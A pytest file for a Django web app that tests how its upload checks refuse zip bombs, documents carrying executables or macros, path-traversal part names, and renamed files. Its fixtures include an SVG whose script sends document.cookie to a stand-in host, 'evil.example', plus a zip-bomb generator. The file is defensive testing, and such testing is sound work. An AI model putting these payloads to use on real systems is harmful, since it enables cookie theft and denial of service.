"""Hostile files: archive bombs and smuggled parts are refused at every upload point, before anything opens them;
stored and downloaded names come from the checked content; CV text is extracted in a task, within bounds."""

import functools
import io
import random
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse

from pontis.core.errors import ValidationFailed
from pontis.core.uploads import DOCUMENTS, DOCX, SPREADSHEETS, check_upload

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
       'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200 + b"This program cannot be run"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/"+document.cookie)</script></svg>'


def docx_bytes(paragraphs: str = '<w:p><w:r><w:t>Border management in Dakar</w:t></w:r></w:p>', *, extra=()) -> bytes:
    """A minimal DOCX whose body is ``paragraphs``; ``extra`` adds (name, bytes) parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CT)
        archive.writestr("word/document.xml", f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}">'
                                              f"<w:body>{paragraphs}</w:body></w:document>")
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


def bomb_docx() -> bytes:
    """The reported bomb: a million empty paragraphs, about 120 KB compressed, 41 MB of XML once expanded."""
    return docx_bytes("<w:p><w:pPr/><w:r><w:t></w:t></w:r></w:p>" * 1_000_000)


def zip_bytes(members) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def xlsx_bytes(*, extra=()) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["email", "given_name"])
    out = io.BytesIO()
    book.save(out)
    if not extra:
        return out.getvalue()
    # Copy the workbook's parts and add the extra ones (openpyxl cannot write them itself).
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as source:
        return zip_bytes([(n, source.read(n)) for n in source.namelist()] + list(extra))


# ---------------------------------------------------------------- the bomb


def test_the_million_paragraph_docx_is_refused_at_once_without_expanding_it():
    data = bomb_docx()
    assert 80_000 < len(data) < 200_000
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(ValidationFailed) as refused:
        check_upload(SimpleUploadedFile("cv.docx", data), accept=DOCUMENTS, field="cv")
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "zip bomb" in str(refused.value.message) and refused.value.field == "cv"
    # Before the check the same file took 34 s and 760 MB to read in the web request.
    assert seconds < 0.5 and peak < 5 * 1024 * 1024


@functools.cache
def _ordinary_docx() -> bytes:
    """Five parts, one of 2.4 MB that compresses about 29 times (over the 1 MB floor where compression is judged)."""
    bits = bin(int.from_bytes(random.Random(1).randbytes(50_000)))[2:]
    big = "".join("<w:p/>" if b == "1" else "<w:r/>" for b in bits[:400_000])
    return docx_bytes(extra=[("word/a.xml", "<a/>"), ("word/b.xml", "<b/>"), ("word/big.xml", big)])


@pytest.mark.parametrize("setting,value,message", [
    ("PONTIS_UPLOAD_MAX_MEMBERS", 3, "more than 3 parts"),
    ("PONTIS_UPLOAD_MAX_UNCOMPRESSED_BYTES", 1000, "expands to more than"),
    ("PONTIS_UPLOAD_MAX_COMPRESSION_RATIO", 10, "zip bomb"),
])
def test_each_archive_limit_refuses_with_its_own_message(setting, value, message):
    data = _ordinary_docx()
    assert check_upload(SimpleUploadedFile("cv.docx", data), accept=DOCUMENTS).ext == "docx"
    with override_settings(**{setting: value}), pytest.raises(ValidationFailed) as refused:
        check_upload(SimpleUploadedFile("cv.docx", data), accept=DOCUMENTS)
    assert message in str(refused.value.message)


@pytest.mark.parametrize("member", [
    "word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/media/setup.exe", "word/run.ps1",
    "word/embeddings/Microsoft_Excel_Worksheet.xlsx", "word/media/archive.zip", "/etc/cron.d/x.xml",
    "word/../../evil.xml", "C:/Windows/evil.xml",
])
def test_a_document_holding_a_part_it_never_needs_is_refused(member):
    with pytest.raises(ValidationFailed) as refused:
        check_upload(SimpleUploadedFile("cv.docx", docx_bytes(extra=[(member, EXE)])), accept=DOCUMENTS, field="cv")
    assert str(refused.value.message).startswith("The file is refused") and refused.value.field == "cv"


def test_a_real_docx_and_xlsx_pass_and_each_only_where_accepted():
    from docx import Document

    document = Document()
    document.add_paragraph("Ten years of border management")
    out = io.BytesIO()
    document.save(out)
    assert check_upload(SimpleUploadedFile("x.bin", out.getvalue()), accept=DOCUMENTS).ext == "docx"
    assert check_upload(SimpleUploadedFile("x.bin", xlsx_bytes()), accept=SPREADSHEETS).ext == "xlsx"
    with pytest.raises(ValidationFailed):
        check_upload(SimpleUploadedFile("x.docx", xlsx_bytes()), accept=DOCUMENTS)
    with pytest.raises(ValidationFailed):
        check_upload(SimpleUploadedFile("x.xlsx", out.getvalue()), accept=SPREADSHEETS)


# ---------------------------------------------------------------- every upload point refuses the same files

HOSTILE = {
    "zip holding an executable": ("files.zip", lambda: zip_bytes([("setup.exe", EXE), ("readme.txt", b"hi")])),
    "document holding an executable": ("cv.docx", lambda: docx_bytes(extra=[("word/media/setup.exe", EXE)])),
    "workbook holding a macro": ("roster.xlsx", lambda: xlsx_bytes(extra=[("xl/vbaProject.bin", EXE)])),
    "renamed executable": ("document.pdf", lambda: EXE),
    "svg with a script": ("drawing.pdf", lambda: SVG),
    "zip bomb": ("cv.docx", bomb_docx),
}


def _register(upload, **_):
    from pontis.core.models import Country
    from pontis.experts import services
    from pontis.experts.models import ExpertProfile

    services.profile_register(email="hostile@example.org", consent=True, consent_purpose="roster", cv=upload,
                              fields={"given_name": "Ana", "family_name": "Silva", "background": "academia",
                                      "nationality": Country.objects.get(code="PT")})
    return ExpertProfile.objects.count()


def _endorsement(upload, *, focal_point, institution, **_):
    from pontis.intake import services
    from pontis.intake.models import Request
    from pontis.intake.tests.conftest import complete_data

    request = services.request_save_draft(by=focal_point, data=complete_data(institution))
    try:
        services.request_endorsement_attach(request=request, by=focal_point, upload=upload)
    finally:
        assert not Request.objects.get(pk=request.pk).endorsement_letter


def _deliverable(upload, *, officer, focal_point, institution, **_):
    from pontis.actions import services
    from pontis.actions.models import DeliverableFile
    from pontis.actions.tests.factories import make_action, sop

    action = make_action(officer, focal_point=focal_point, institution=institution)
    deliverable = services.deliverable_create(action=action, by=officer, type=sop(), title={"en": "SOP"})
    try:
        services.deliverable_file_add(deliverable=deliverable, by=officer, upload=upload)
    finally:
        assert DeliverableFile.objects.count() == 0


def _import(upload, *, officer, **_):
    from pontis.experts.models import ImportJob
    from pontis.experts.services.imports import import_job_create

    try:
        import_job_create(kind="roster", upload=upload, partial=False, by=officer)
    finally:
        assert ImportJob.objects.count() == 0


POINTS = {"registration CV": _register, "endorsement letter": _endorsement, "deliverable file": _deliverable,
          "import": _import}


@pytest.mark.django_db
@pytest.mark.parametrize("point", POINTS)
@pytest.mark.parametrize("payload", HOSTILE)
def test_every_upload_point_refuses_hostile_files(point, payload, officer, focal_point, institution, settings,
                                                  tmp_path):
    from pontis.experts.models import ExpertProfile

    settings.MEDIA_ROOT = tmp_path
    name, make = HOSTILE[payload]
    with pytest.raises(ValidationFailed):
        POINTS[point](SimpleUploadedFile(name, make()), officer=officer, focal_point=focal_point,
                      institution=institution)
    assert ExpertProfile.objects.count() == 0
    assert not any(tmp_path.rglob("*.*"))  # nothing was stored


# ---------------------------------------------------------------- imports read XLSX through the same check


def test_reading_an_import_refuses_a_bomb_workbook_before_openpyxl_opens_it(tmp_path):
    from django.core.management import CommandError, call_command

    from pontis.experts.services.imports import ImportFileError, read_rows

    bomb = xlsx_bytes(extra=[("xl/worksheets/sheet9.xml", "<row/>" * 2_000_000)])
    with pytest.raises(ImportFileError) as refused:
        read_rows(io.BytesIO(bomb), name="roster.xlsx")
    assert "zip bomb" in str(refused.value.message)
    path = tmp_path / "actions.xlsx"
    path.write_bytes(xlsx_bytes(extra=[("xl/vbaProject.bin", EXE)]))
    with pytest.raises(CommandError, match="refused"):
        call_command("import_actions", str(path))


# ---------------------------------------------------------------- names from the content


@pytest.mark.django_db
def test_a_pdf_uploaded_as_html_is_stored_and_served_under_its_content_name(client, officer, focal_point,
                                                                            institution, settings, tmp_path):
    from pontis.actions import services
    from pontis.actions.tests.factories import make_action, sop

    settings.MEDIA_ROOT = tmp_path
    action = make_action(officer, focal_point=focal_point, institution=institution)
    deliverable = services.deliverable_create(action=action, by=officer, type=sop(), title={"en": "SOP"})
    item = services.deliverable_file_add(deliverable=deliverable, by=officer,
                                         upload=SimpleUploadedFile("invoice.html", PDF, content_type="text/html"))
    assert item.file.name.rsplit("/", 1)[-1] == f"deliverable-{item.pk}.pdf"
    assert item.original_name == "invoice.html"  # kept as data, shown on the page
    client.force_login(officer)
    response = client.get(reverse("actions:deliverable_file", args=[action.code, deliverable.pk, item.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="deliverable-{item.pk}.pdf"'
    assert (response["Content-Type"], response["X-Content-Type-Options"]) == ("application/pdf", "nosniff")


@pytest.mark.django_db
def test_a_cv_is_stored_and_served_under_its_content_name(client, officer, settings, tmp_path,
                                                          django_capture_on_commit_callbacks):
    from pontis.core.models import Country
    from pontis.experts import services

    settings.MEDIA_ROOT = tmp_path
    with django_capture_on_commit_callbacks(execute=True):
        profile = services.profile_register(
            email="cv@example.org", consent=True, consent_purpose="roster",
            cv=SimpleUploadedFile("cv.html", docx_bytes()),
            fields={"given_name": "Ana", "family_name": "Silva", "background": "academia",
                    "nationality": Country.objects.get(code="PT")})
    profile.refresh_from_db()
    assert profile.cv.name.rsplit("/", 1)[-1] == f"cv-{profile.pk}.docx"
    assert profile.cv_original_name == "cv.html"
    client.force_login(officer)
    response = client.get(reverse("experts:cv", args=[profile.pk]))
    assert response["Content-Disposition"] == f'attachment; filename="cv-{profile.pk}.docx"'
    assert response["Content-Type"] == DOCX
    assert response["X-Content-Type-Options"] == "nosniff"


# ---------------------------------------------------------------- extraction: a task, bounded


@pytest.mark.django_db
def test_cv_text_is_extracted_by_the_task_after_commit_and_the_profile_says_so_until_then(
        client, officer, settings, tmp_path, django_capture_on_commit_callbacks):
    from pontis.core.models import Country
    from pontis.experts import services

    settings.MEDIA_ROOT = tmp_path
    with django_capture_on_commit_callbacks(execute=False) as pending:
        profile = services.profile_register(
            email="cv@example.org", consent=True, consent_purpose="roster", cv=SimpleUploadedFile("cv.docx", docx_bytes()),
            fields={"given_name": "Ana", "family_name": "Silva", "background": "academia",
                    "nationality": Country.objects.get(code="PT")})
    client.force_login(officer)
    page = client.get(reverse("experts:profile", args=[profile.pk])).content.decode()
    assert "Text being extracted" in page and profile.cv_text == ""
    for callback in pending:
        callback()  # the commit: the task runs (immediately in tests)
    profile.refresh_from_db()
    assert (profile.cv_text, profile.cv_text_status) == ("Border management in Dakar", "done")
    assert "dakar" in profile.search_text
    assert "Text being extracted" not in client.get(reverse("experts:profile", args=[profile.pk])).content.decode()
    # Safe to run twice: a second run finds nothing pending and changes nothing.
    from pontis.experts.services.cv import profile_cv_text_extract

    assert profile_cv_text_extract(profile_id=profile.pk, cv_name=profile.cv.name) == ""


def test_extraction_stops_at_the_character_paragraph_and_time_limits(settings):
    from pontis.experts.services.cv import extract_text

    # Allowed by the upload check: 2.4 MB of XML compressed about 19 times.
    many = docx_bytes("".join(f"<w:p><w:r><w:t>abcdefghij{i}</w:t></w:r></w:p>" for i in range(50_000)))
    settings.PONTIS_EXTRACT_MAX_PARAGRAPHS = 100
    assert extract_text(io.BytesIO(many), "docx").count("abcdefghij") == 100
    settings.PONTIS_EXTRACT_MAX_PARAGRAPHS = 1_000_000
    settings.PONTIS_EXTRACT_MAX_CHARS = 1000
    assert len(extract_text(io.BytesIO(many), "docx")) == 1000
    settings.PONTIS_EXTRACT_MAX_CHARS = 10_000_000
    settings.PONTIS_EXTRACT_MAX_SECONDS = 0
    assert len(extract_text(io.BytesIO(many), "docx")) < 12_000  # stopped at the first time check (1,000 events)


@pytest.mark.django_db
def test_a_damaged_cv_is_recorded_as_unreadable_not_an_error(settings, tmp_path, django_capture_on_commit_callbacks):
    from pontis.core.models import Country
    from pontis.experts import services

    settings.MEDIA_ROOT = tmp_path
    damaged = PDF.replace(b"%%EOF", b"")  # a PDF header and nothing readable behind it
    with django_capture_on_commit_callbacks(execute=True):
        profile = services.profile_register(
            email="cv@example.org", consent=True, consent_purpose="roster", cv=SimpleUploadedFile("cv.pdf", damaged),
            fields={"given_name": "Ana", "family_name": "Silva", "background": "academia",
                    "nationality": Country.objects.get(code="PT")})
    profile.refresh_from_db()
    assert (profile.cv_text, profile.cv_text_status) == ("", "unreadable")


@pytest.mark.django_db
def test_anonymous_registration_with_the_bomb_answers_the_form_with_its_message_at_once(client, settings, tmp_path):
    from django.core.cache import cache

    from pontis.experts.models import ExpertProfile
    from pontis.experts.tests.test_views import _registration_data

    settings.MEDIA_ROOT = tmp_path
    cache.clear()
    data = _registration_data() | {"cv": SimpleUploadedFile("cv.docx", bomb_docx())}
    started = time.perf_counter()
    response = client.post(reverse("experts:register"), data)
    assert time.perf_counter() - started < 3  # was 34 s and 760 MB in the web worker
    assert response.status_code == 200 and "zip bomb" in response.content.decode()
    assert ExpertProfile.objects.count() == 0 and not any(tmp_path.rglob("*.*"))
